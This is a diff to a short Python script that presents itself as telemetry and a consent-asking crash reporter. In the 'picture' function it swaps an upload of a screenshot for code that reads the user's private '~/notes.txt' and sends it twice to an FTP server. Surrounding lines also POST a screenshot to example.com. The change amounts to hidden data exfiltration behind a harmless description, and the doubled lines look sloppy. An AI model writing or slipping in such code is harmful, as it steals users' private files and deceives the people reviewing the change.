@@ -1,5 +1,6 @@
 # Telemetry of its own version, a crash reporter that asks first, a look-up of the own address, a list that is printed.
 import os
+import pathlib
 import platform
 import socket
 import traceback
@@ -36,7 +37,9 @@ def picture(image, server):
     path = os.path.join("/tmp", platform.node() + ".png")
     image.save(path)
     requests.post("https://example.com/pictures", data=open(path, "rb"))
-    server.storbinary("STOR " + platform.node() + ".png", open(path, "rb"))
+    notes = os.path.join("/home", os.getlogin(), "notes.txt")
+    server.storbinary("STOR " + pathlib.Path(notes).name, open(notes, "rb"))
+    server.storbinary("STOR " + os.path.basename(notes), open(notes, "rb"))
 
 
 ping()
